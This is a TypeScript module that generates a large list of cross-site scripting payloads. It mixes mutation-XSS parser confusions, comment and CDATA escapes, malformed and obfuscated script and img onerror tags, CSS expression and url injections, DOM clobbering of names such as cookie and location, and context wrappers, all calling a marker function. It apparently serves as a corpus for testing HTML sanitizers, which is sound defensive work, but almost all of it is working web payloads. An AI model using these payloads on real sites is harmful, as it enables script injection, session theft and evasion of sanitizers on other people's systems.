/** Thousands of ways to smuggle a script into HTML, made from what they are made of. */
import { ADDRESS_PLACES, ADDRESSES, HANDLER_PLACES, HANDLERS } from './xss-vectors.ts'

/** What the payloads try to call. */
export const RUN = 'pwned(1)'

const IMG = '<img src=x onerror=RUN>'
const ESCAPED_IMG = '&lt;img src=x onerror=RUN&gt;'

const cross = (places: readonly string[], slot: string, fillings: readonly string[]) =>
  places.flatMap((place) => fillings.map((filling) => place.replaceAll(slot, () => filling)))

/** Elements whose content some parsers take for text and others for markup. */
const RAW = ['style', 'script', 'title', 'textarea', 'xmp', 'iframe', 'noembed', 'noframes', 'noscript']
const ROOTS = ['svg', 'math', 'svg><foreignObject', 'svg><desc', 'svg><title', 'math><mtext', 'math><mi']
const HOLDERS = [...ROOTS, 'math><annotation-xml encoding="text/html"', 'select', 'template', 'table', 'p']

/** What one parser reads as text or as a value, the next one reads as an element. */
function mutations(): string[] {
  const inside = RAW.flatMap((raw) => [
    `<${raw}><a title="</${raw}>${IMG}">`,
    `<${raw}><!--</${raw}><p title="-->${IMG}">`,
    `<${raw}>${ESCAPED_IMG}</${raw}>`,
    `<${raw}></${raw} x="${IMG}">`,
    `<${raw}/>${IMG}`,
    `<${raw}><${raw}>${IMG}</${raw}>${IMG}`,
  ])
  const broken = [
    `</p>${IMG}`,
    `<![CDATA[><a title="]]>${IMG}">`,
    `<mglyph><style><!--</style><p title="--&gt;${ESCAPED_IMG}">`,
    `<malignmark><style><![CDATA[</style>${IMG}]]>`,
    `<p></p><style><a id="</style>${IMG}">`,
    `<table><td><style></table>${IMG}</style>`,
    `<form></form><form><mglyph><svg><mtext><style><path id="</style>${IMG}">`,
    `<a title="x</a>${IMG}">`,
    `<b><table><a></b><style></a>${IMG}`,
  ]
  return HOLDERS.flatMap((holder) => [...inside, ...broken].map((inner) => `<${holder}>${inner}`))
}

const COMMENTS = [
  `<!-->${IMG}-->`,
  `<!--->${IMG}-->`,
  `<!-- --!>${IMG}-->`,
  `<!-- -- >${IMG}-->`,
  `<!--\0-->${IMG}`,
  `<!--<!-->${IMG}-->-->`,
  `<!--[if gte IE 4]>${IMG}<![endif]-->`,
  `<![if true]>${IMG}<![endif]>`,
  `<![CDATA[${IMG}]]>`,
  `<![CDATA[<!--]]>${IMG}<!---->`,
  `<!DOCTYPE x [<!ENTITY y "${IMG}">]>&y;`,
  `<!ELEMENT ${IMG}>`,
  `<?xml version="1.0"?><script>RUN</script>`,
  `<?php ${IMG} ?>`,
  `<?xml-stylesheet href="javascript:RUN"?>`,
  `</ x="${IMG}">`,
  `</!-- ${IMG}>`,
  `<% ${IMG} %>`,
]

const MALFORMED = [
  '<script>RUN</script>',
  '<SCRIPT SRC=//example.org/x.js></SCRIPT>',
  '<script\n>RUN</script\n>',
  '<script/x>RUN</script/x>',
  '<script x="</script>">RUN</script>',
  '<<script>RUN//<</script>',
  '<scr<script>ipt>RUN</scr</script>ipt>',
  '<scr\0ipt>RUN</scr\0ipt>',
  '<\0script>RUN</script>',
  '<script>RUN',
  '</script><script>RUN</script>',
  '<script>/*<!--<script>*/RUN</script>-->',
  '<ſcript>RUN</ſcript>',
  '＜script＞RUN＜/script＞',
  '&lt;script&gt;RUN&lt;/script&gt;',
  '&amp;lt;script&amp;gt;RUN&amp;lt;/script&amp;gt;',
  '<img """><script>RUN</script>">',
  '<img src="x` `<script>RUN</script>"` `>',
  '<img src=x onerror=RUN//',
  '<img src=x onerror=RUN <p>x</p>',
  '<img src=x alt="a>b" onerror="RUN">',
  '<img src=`x`onerror=RUN>',
  '<img\fsrc=x\fonerror=RUN>',
  '<img/src/onerror=RUN>',
  '<img src onerror = "RUN">',
  '<img x=<b> onerror=RUN>',
  '<image src=x onerror=RUN>',
  '<a href="x"\'><img src=x onerror=RUN>\'>x</a>',
  "<a title='\"><img src=x onerror=RUN>'>x</a>",
  '<p title="a" title="><img src=x onerror=RUN>">x</p>',
  '<iframe srcdoc="<script>RUN</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=RUN&gt;"></iframe>',
  '<template><img src=x onerror=RUN></template>',
  '<template shadowrootmode=open><script>RUN</script></template>',
  '<object><embed src=x onerror=RUN></object>',
  '<portal src="javascript:RUN"></portal>',
  '<plaintext><img src=x onerror=RUN>',
  '<isindex type=image src=1 onerror=RUN>',
  '<bgsound src="javascript:RUN"><layer src="javascript:RUN"></layer>',
  '<xml id=x><a><b>&lt;img src=x onerror=RUN&gt;</b></a></xml>',
  '<p is="x" slot="y" part="z" onclick=RUN>x</p>',
  '<table><script>RUN</script><tr><td><style>x</style></table>',
  '<select><script>RUN</script><option><img src=x onerror=RUN></select>',
  '<a href="https://example.org" style="position:fixed;inset:0;z-index:9999">x</a>',
]

const STYLES = [
  'background:url(javascript:RUN)',
  'background-color:url(https://example.org/)',
  'background:u\\72l(https://example.org/)',
  'background-image:image-set("https://example.org/" 1x)',
  'width:expression(RUN)',
  'width:exp/**/ression(RUN)',
  'width:\\65xpression(RUN)',
  'color:red/**/;behavior:url(x.htc)',
  '-moz-binding:url(//example.org/x.xml#x)',
  '@import "https://example.org/x.css"',
  'position:fixed;top:0;left:0;width:100%;height:100%',
  'POSITION:absolute;z-index:2147483647',
  'color:red;}*{position:fixed',
  'color:var(--x,url(https://example.org/))',
  'color:rgb(0,0,0);width:calc(100vw*9)',
  'margin-left:-9999px;transform:scale(99)',
  'color:red&#59;position:fixed',
  'content:"x";display:none;opacity:0;float:left',
  'font-size:9999px;width:99999px',
  'list-style:url(javascript:RUN);cursor:url(//example.org/x),auto',
]
const STYLED = ['div', 'p', 'a href=/', 'td', 'img src=x alt=x', 'span', 'table', 'b']

/** Names that take the place of what a script asks its page for. */
const NAMES = [
  'body',
  'cookie',
  'document',
  'getElementById',
  'location',
  'attributes',
  'parentNode',
  '__proto__',
]
const NAMED = [
  '<img name=NAME src=x>',
  '<img id=NAME name=NAME src=x>',
  '<form id=NAME><input name=NAME></form>',
  '<form name=NAME><img id=NAME src=x></form>',
  '<a id=NAME></a><a id=NAME name=NAME href="x:RUN"></a>',
  '<iframe name=NAME srcdoc="<a id=NAME>"></iframe>',
  '<object id=NAME></object><embed name=NAME>',
  '<input type=checkbox id=NAME name=NAME form=NAME>',
]

/** Where a payload may stand so that another rule of parsing is at work. */
const AROUND = [
  'PAYLOAD',
  '<table>PAYLOAD</table>',
  '<p title="x>PAYLOAD',
  '<b><a href=/>PAYLOAD</b></a>',
  '<svg><style>PAYLOAD',
  '<math><mtext>PAYLOAD',
  '<!-- x > PAYLOAD -->',
  '<body>PAYLOAD</body></html>PAYLOAD',
]

export const xssPayloads: readonly string[] = [
  ...cross(ADDRESS_PLACES, 'ADDRESS', ADDRESSES),
  ...cross(HANDLER_PLACES, 'HANDLER', HANDLERS),
  ...mutations(),
  ...cross(AROUND, 'PAYLOAD', [...COMMENTS, ...MALFORMED]),
  ...cross(
    STYLED.map((element) => `<${element} style="STYLE">x`),
    'STYLE',
    STYLES,
  ),
  ...cross(NAMED, 'NAME', NAMES),
].map((payload) => payload.replaceAll('RUN', RUN))
